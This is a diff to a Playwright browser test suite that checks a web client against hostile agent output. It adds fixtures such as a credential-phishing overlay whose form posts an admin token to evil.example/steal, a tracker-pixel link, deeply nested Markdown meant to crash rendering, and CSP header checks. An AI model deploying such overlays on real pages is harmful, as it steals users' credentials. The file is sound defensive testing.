@@ -1,5 +1,5 @@
 import { join } from 'node:path';
-import type { Browser, Page, Request as BrowserRequest } from 'playwright-core';
+import type { Browser, Page, Request as BrowserRequest, Route } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ChatCompletion } from '../../schemas/chat.ts';
 import { createdKeySchema, keyListSchema } from '../../schemas/keys.ts';
@@ -20,6 +20,17 @@ describe('the client’s screens in a browser: API keys, agents explorer, chat p
   let registry: string;
   let chat: string;
   let apiKey: string;
+  /** Requests the page made to the hostile README's hosts, and the page's Content-Security-Policy violations. */
+  const evilRequests: string[] = [];
+  const cspViolations: string[] = [];
+
+  /** Watches a page for CSP violations (Chromium reports each as a console error). */
+  function watchCsp(watched: Page): Page {
+    watched.on('console', (message) => {
+      if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
+    });
+    return watched;
+  }
 
   const search = (key: string, text = '') =>
     fetch(`${registry}/v1/search/agents`, { method: 'POST', headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' }, body: JSON.stringify({ search_text: text }) });
@@ -36,7 +47,10 @@ describe('the client’s screens in a browser: API keys, agents explorer, chat p
     });
     await registerDemoAgents(registry, createdKeySchema.parse(await created.json()).key);
     browser = await launchBrowser();
-    page = await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' });
+    page = watchCsp(await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' }));
+    page.on('request', (request) => {
+      if (new URL(request.url()).hostname.endsWith('evil.example')) evilRequests.push(request.url());
+    });
     await page.goto(`${temp.stack.urls.client}/#keys`);
   });
   afterAll(async () => {
@@ -200,6 +214,17 @@ describe('the client’s screens in a browser: API keys, agents explorer, chat p
     expect(await page.locator('.readme [href^="javascript:" i]').count()).toBe(0);
     expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
     expect(await page.locator('.readme-badge.broken').textContent()).toContain('finance');
+
+    const readme = page.locator('.readme');
+    expect(await readme.locator('style, form, input, button, iframe, img, [style], .shell-header').count()).toBe(0);
+    expect(await readme.innerText()).toContain('Session expired: paste your admin token to continue.');
+    expect(await page.locator('.shell').isVisible()).toBe(true);
+    expect(await page.getByRole('button', { name: 'Agents' }).isVisible()).toBe(true);
+    const source = readme.getByRole('link', { name: 'rate source' });
+    expect(await source.getAttribute('href')).toBe('https://rates.example/fx');
+    expect(await source.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+    expect(await readme.getByRole('link', { name: 'image: tracker' }).getAttribute('href')).toBe('https://evil.example/pixel.png');
+    expect(evilRequests).toEqual([]);
   });
 
   it('Chat playground: the model picker lists /v1/models; a reply streams with the thought apart and the agents discovery found', async () => {
@@ -232,6 +257,86 @@ describe('the client’s screens in a browser: API keys, agents explorer, chat p
     expect(await reply.locator('.playground-agent strong').allTextContents()).toEqual(expected.executable_data.map((agent) => agent.name));
     expect(expected.executable_data.map((agent) => agent.name)).toContain('Weather forecaster');
     await page.screenshot({ path: screenshotPath('chat-playground.png'), fullPage: true });
+  });
+
+  /** A page on the ask screen whose router (faked in the browser) takes the question and answers each poll with `poll`. */
+  async function askWithRouter(poll: (route: Route) => Promise<void> | void): Promise<Page> {
+    const ask = watchCsp(await browser.newPage({ viewport: { width: 1100, height: 900 }, colorScheme: 'light' }));
+    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Methods': 'GET, POST', 'Access-Control-Allow-Headers': 'content-type' };
+    const router = new URL(temp.stack.urls.router).origin;
+    await ask.route(
+      (url) => url.origin === router,
+      (route) => {
+        const request = route.request();
+        if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
+        if (new URL(request.url()).pathname === '/api/send-request') {
+          return route.fulfill({ json: { status: 'request_sent', request_id: crypto.randomUUID() }, headers: cors });
+        }
+        return poll(route);
+      },
+    );
+    return ask;
+  }
+
+  async function ask(askPage: Page, question: string): Promise<void> {
+    await askPage.goto(temp.stack.urls.client);
+    await askPage.locator('textarea[name="question"]').fill(question);
+    await askPage.getByRole('button', { name: 'Ask', exact: true }).click();
+  }
+
+  it('Ask an agent: a router that takes the question and never answers a poll: the client stops and says so at 120 s', async () => {
+    const polls: string[] = [];
+    const askPage = await askWithRouter((route) => {
+      polls.push(route.request().url());
+    });
+    await askPage.clock.install();
+    await ask(askPage, 'What was Apple’s revenue in its latest annual report?');
+    await askPage.getByText(/Waiting for the specialist’s analysis/).waitFor();
+    await askPage.clock.runFor(119_000);
+    expect(await askPage.getByText(/No answer after/).count()).toBe(0);
+    await askPage.clock.runFor(2_000);
+    await askPage.getByText('No answer after 120 s; polling stopped. Ask again to retry.').waitFor();
+    expect(polls.length).toBeGreaterThanOrEqual(1);
+    expect(await askPage.getByRole('button', { name: 'Ask', exact: true }).isVisible()).toBe(true);
+    await askPage.close();
+  });
+
+  it('Ask an agent: a hostile answer is reduced to its text, and answers nested 50 000 deep show as plain text without breaking the page', async () => {
+    const overlay =
+      '<style>.shell { display: none }</style><div style="position: fixed; inset: 0; z-index: 99"><form action="https://evil.example/steal">' +
+      '<p>Session expired: paste your admin token.</p><input type="password" name="token"><button>Continue</button></form></div>';
+    const analysis = [
+      { role: 'overlay', name: 'Overlay', content: overlay },
+      { role: 'quotes', name: 'Quotes', content: `${'>'.repeat(50_000)} deep` },
+      { role: 'brackets', name: 'Brackets', content: '['.repeat(50_000) },
+    ];
+    const askPage = await askWithRouter((route) =>
+      route.fulfill({ json: { analysis_result: { analysis } }, headers: { 'Access-Control-Allow-Origin': '*' } }),
+    );
+    await ask(askPage, 'Summarise the risk factors in Tesla’s latest 10-K.');
+    const items = askPage.locator('.analysis-item');
+    await expect.poll(() => items.count(), { timeout: 20_000 }).toBe(3);
+    expect(await askPage.locator('.analysis :is(style, form, input, button, [style])').count()).toBe(0);
+    expect(await items.nth(0).innerText()).toContain('Session expired: paste your admin token.');
+    expect(await items.nth(1).locator('.markdown-notice').textContent()).toBe('Shown as plain text: its Markdown nests deeper than 16 levels.');
+    expect((await items.nth(1).locator('.markdown-plain').textContent())?.length).toBe(50_005);
+    expect((await items.nth(2).innerText()).length).toBeGreaterThan(50_000);
+    expect(await askPage.locator('.shell-header').isVisible()).toBe(true);
+    await askPage.getByRole('button', { name: 'Agents' }).click();
+    await askPage.getByLabel('API key (read permission)').waitFor();
+    await askPage.close();
+  });
+
+  it('the site sends its CSP (calls to the configured APIs only, no framing) and framing, sniffing and referrer headers; no screen broke its policy', async () => {
+    const response = await fetch(temp.stack.urls.client);
+    const csp = response.headers.get('content-security-policy') ?? '';
+    expect(csp).toContain("frame-ancestors 'none'");
+    expect(csp).toContain(`connect-src 'self' ${temp.stack.urls.router} ${registry} ${chat}`);
+    expect(response.headers.get('x-frame-options')).toBe('DENY');
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
+    // The hostile README's onerror handler: Chromium reports it blocked while the sanitiser parses the README (inertly).
+    expect(cspViolations.filter((violation) => !violation.startsWith('Executing inline event handler'))).toEqual([]);
   });
 
   it('API reference: the registry’s /docs page renders its OpenAPI document and sends a request from it', async () => {
